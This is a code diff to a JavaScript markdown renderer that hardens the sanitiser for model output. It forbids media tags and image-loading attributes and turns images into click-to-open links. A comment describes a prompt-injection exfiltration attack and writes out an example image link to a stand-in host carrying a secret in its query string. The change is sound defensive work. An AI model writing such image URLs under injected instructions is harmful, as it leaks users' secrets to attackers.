@@ -10,8 +10,13 @@ import { closeOpenMarkers, createBlockSplitter } from "./blocks.js";
 
 const PURIFY_CONFIG = {
   USE_PROFILES: { html: true },
-  FORBID_TAGS: ["style", "form", "input", "button", "textarea", "select", "option", "iframe", "dialog"],
-  FORBID_ATTR: ["style", "autofocus"],
+  // Nothing in model output may make the browser fetch on its own (a prompt injection could put
+  // secrets in the URL): media elements go, and so do attributes that load images.
+  FORBID_TAGS: [
+    "style", "form", "input", "button", "textarea", "select", "option", "iframe", "dialog",
+    "video", "audio", "source", "track", "picture",
+  ],
+  FORBID_ATTR: ["style", "autofocus", "srcset", "background", "poster", "ping"],
   SANITIZE_NAMED_PROPS: true,
   RETURN_DOM_FRAGMENT: true,
 };
@@ -26,10 +31,6 @@ function installHooks() {
       node.setAttribute("target", "_blank");
       node.setAttribute("rel", "noopener noreferrer");
     }
-    if (node.tagName === "IMG") {
-      node.setAttribute("referrerpolicy", "no-referrer");
-      node.setAttribute("loading", "lazy");
-    }
   });
 }
 
@@ -38,17 +39,35 @@ export function renderMarkdown(source) {
   installHooks();
   const html = marked.parse(source, { async: false, gfm: true, breaks: false });
   const fragment = DOMPurify.sanitize(html, PURIFY_CONFIG);
-  dropUnsafeImages(fragment);
+  replaceImages(fragment);
   decorateCodeBlocks(fragment);
   return fragment;
 }
 
-/** Only absolute http(s) images load; anything else (e.g. src=x) shows its alt text instead. */
-function dropUnsafeImages(fragment) {
+/**
+ * No image from model output loads by itself: an image would be fetched with no click, and a
+ * prompt injection can make the model write `![x](https://evil.example/?q=<secret>)`. Each <img>
+ * becomes a link ("🖼 alt", or the URL when there is no alt) that opens the image only when
+ * clicked; one that is not absolute http(s), or sits inside a link already, becomes plain text.
+ * The fragment still belongs to DOMPurify's inert document here, so the <img> never fetched.
+ */
+function replaceImages(fragment) {
   for (const img of fragment.querySelectorAll("img")) {
-    if (!/^https?:\/\//i.test(img.getAttribute("src") || "")) {
-      img.replaceWith(document.createTextNode(img.getAttribute("alt") || ""));
+    const src = (img.getAttribute("src") || "").trim();
+    const alt = (img.getAttribute("alt") || "").trim();
+    const label = `🖼 ${alt || src || "image"}`;
+    if (!/^https?:\/\//i.test(src) || img.closest("a")) {
+      img.replaceWith(document.createTextNode(alt ? label : ""));
+      continue;
     }
+    const link = document.createElement("a");
+    link.className = "md-image-link";
+    link.href = src;
+    link.target = "_blank";
+    link.rel = "noopener noreferrer";
+    link.title = `Open image: ${src}`;
+    link.textContent = label;
+    img.replaceWith(link);
   }
 }
 
